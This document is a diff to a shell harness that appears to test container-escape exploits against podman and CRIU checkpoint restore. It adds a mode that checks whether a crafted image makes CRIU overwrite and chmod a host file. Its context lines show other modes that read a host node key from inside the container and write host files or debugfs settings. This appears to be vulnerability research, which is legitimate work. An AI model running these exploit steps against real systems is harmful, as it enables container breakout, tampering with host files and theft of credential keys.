@@ -7,6 +7,10 @@ SRC=${SRC:-src.tar.zst}; cd $D
 for mode in "$@"; do
   echo "=== $mode ($(date -u +%T))"
   rm -f $D/binfmt-ran $D/core-ran $D/disk-write
+  if [ $mode = cgprop ] && [ -z "${PROOF_ONLY:-}" ]; then
+    printf 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n' > $D/victim; chmod 600 $D/victim
+    echo "host victim before: $(ls -la $D/victim | cut -d' ' -f1,3,4) content: $(cat $D/victim)"
+  fi
   if [ -z "${PROOF_ONLY:-}" ]; then  # import.sh restored it already
     $P $H/edit.py $SRC $mode.tar.zst $mode >/dev/null || { echo "edit failed"; continue; }
     podman rm -f -t 0 attack30d-src >/dev/null 2>&1
@@ -51,6 +55,9 @@ for mode in "$@"; do
     autoext4|overlayhost)
       podman exec attack30d-src sh -c 'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -30 | tr "\n" " "; echo; head -c 60 /mnt/etc/gpuckpt/node.key | od -c | head -2; echo attack30d-from-container > /mnt/var/tmp/attack30d/disk-write' 2>&1; echo "exec rc=$?"
       [ -e $D/disk-write ] && echo "HOST FILE written from the container: $(ls -la $D/disk-write)";;
+    cgprop)
+      echo "host victim after: $(ls -la $D/victim | cut -d' ' -f1,3,4) content: $(cat $D/victim)"
+      grep -q attack30d-written-by-criu $D/victim && echo "HOST FILE written and chmod'ed by CRIU from the image";;
     debugfs)
       mkdir -p $D/dbg; mount -t debugfs debugfs $D/dbg; f=$D/dbg/fault_around_bytes; before=$(cat $f)
       podman exec attack30d-src sh -c 'grep " /mnt " /proc/self/mountinfo; echo 8192 > /mnt/fault_around_bytes' 2>&1; echo "exec rc=$?"
